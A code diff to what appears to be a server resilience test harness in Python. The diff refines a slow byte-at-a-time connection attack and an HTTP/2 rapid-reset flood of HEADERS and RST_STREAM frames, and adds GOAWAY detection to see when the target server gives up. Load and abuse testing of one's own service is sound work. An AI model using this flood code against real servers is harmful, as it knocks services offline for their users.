@@ -20,6 +20,7 @@ from collections import Counter
 
 RATE = 2500             # malformed requests a second
 SLOW = 120              # connections that dribble
+EACH = 0.15             # seconds between two bytes of one
 
 
 def connect(port, timeout=10):
@@ -34,8 +35,8 @@ def head(key, line="GET /v1/list/hostile HTTP/1.1", *more, end="\r\n\r\n"):
 # ---- slow -------------------------------------------------------------------
 
 def dribble(port, texts, seconds, at_once=0):
-    """A byte a time on each of many connections, the first ones at once;
-    Counter of their ends."""
+    """A byte a time on each of many connections, one after the other, the
+    first ones at once; Counter of their ends."""
     socks, ends = [], Counter()
     for text in texts:
         s = connect(port)
@@ -58,7 +59,7 @@ def dribble(port, texts, seconds, at_once=0):
                 ends["reset"] += 1
                 s.close()
                 socks.remove(entry)
-        time.sleep(0.15)
+            time.sleep(EACH / SLOW)
     ends["open"] = len(socks)
     for s, *_ in socks:
         s.close()
@@ -94,6 +95,30 @@ def literal(name, value):
     return out
 
 
+def goes_away(stream):
+    """Is there a GOAWAY in what a server has sent?  Takes whole frames off."""
+    while len(stream) >= 9:
+        size = int.from_bytes(stream[:3], "big")
+        if len(stream) < 9 + size:
+            break
+        if stream[3] == 7:
+            return True
+        del stream[:9 + size]
+    return False
+
+
+def ended(s, answers):
+    """Reads what there is: has the server closed, or said that it will?"""
+    try:
+        while True:
+            got = s.recv(65536)
+            answers += got
+            if not got or goes_away(answers):
+                return True
+    except ssl.SSLWantReadError:
+        return False
+
+
 def rapid_reset(job):
     """HEADERS and RST_STREAM, again and again."""
     context = ssl.create_default_context()
@@ -108,10 +133,9 @@ def rapid_reset(job):
     while done < job.amount:
         with context.wrap_socket(connect(job.tls_port)) as s:
             ends["connections"] += 1
-            stream = 1
+            stream, answers = 1, bytearray()
             try:
                 s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
-                s.settimeout(0.001)
                 while done < job.amount:
                     out = b""
                     for _ in range(50):
@@ -121,12 +145,9 @@ def rapid_reset(job):
                     s.settimeout(10)
                     s.sendall(out)
                     done += 50
-                    s.settimeout(0.0005)
-                    try:
-                        if not s.recv(65536):
-                            break
-                    except (TimeoutError, ssl.SSLWantReadError):
-                        pass
+                    s.setblocking(False)
+                    if ended(s, answers):
+                        break
                     wait(begin, done, RATE)
             except OSError:
                 ends["ended by the server"] += 1
